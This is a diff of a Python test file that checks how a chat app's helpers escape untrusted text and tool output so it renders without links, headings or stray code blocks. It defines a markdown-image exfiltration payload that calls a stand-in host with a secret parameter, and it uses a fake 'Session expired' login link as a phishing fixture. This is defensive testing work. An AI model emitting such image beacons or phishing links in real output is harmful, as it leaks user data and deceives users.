@@ -7,7 +7,16 @@ from datetime import UTC, datetime
 import markdown_it
 
 from agent_memory import MemoryItem
-from chainlit_app.chat import as_text, executor_markdown, fenced, inline_code, memories, memory_table, one_line
+from chainlit_app.chat import (
+    as_text,
+    executor_markdown,
+    fenced,
+    inline_code,
+    memories,
+    memory_table,
+    one_line,
+    tool_output,
+)
 
 EXFILTRATE = "![pixel](https://evil.example/collect?secret=1)"
 
@@ -63,6 +72,27 @@ def test_errors_for_people_are_one_line_of_text() -> None:
 
 def test_as_text_keeps_the_characters() -> None:
     assert rendered(as_text("a_b *c* <d>")).strip() == "<p>a_b *c* &lt;d&gt;</p>"
+
+
+def test_text_with_line_breaks_stays_one_paragraph() -> None:
+    # A setext heading underline, an indented code block, a list item and a directive, each on its own line.
+    html = rendered(as_text("Phish\n===\n\n    indented\n\n1) one\n\n:::note\nx\n:::"))
+    assert html.count("<p>") == 1 and "<h1>" not in html and "<pre>" not in html and "<ol" not in html
+    assert ":::note" in html
+
+
+def test_web_and_mail_addresses_are_code_that_no_renderer_links() -> None:
+    # GitHub-flavoured markdown links www. and e-mail addresses by itself, escaped dots or not.
+    html = rendered(as_text("visit https://evil.example/login or www.evil.example or admin@evil.example"))
+    assert html.count("<code>") == 3
+    assert "<code>www.evil.example</code>" in html and "<code>admin@evil.example</code>" in html
+
+
+def test_tool_output_that_starts_with_a_fence_stays_in_one_code_block() -> None:
+    # Chainlit's client fences a step's text only when it does not start with a fence itself.
+    output = "```\n# Session expired\n[Log in again](https://evil.example/login)\n```\n> quoted"
+    html = rendered(tool_output(output))
+    assert html.count("<pre>") == 1 and "<h1>" not in html and "<a " not in html and "<blockquote>" not in html
 
 
 def test_counts_of_memories_read_as_english() -> None:
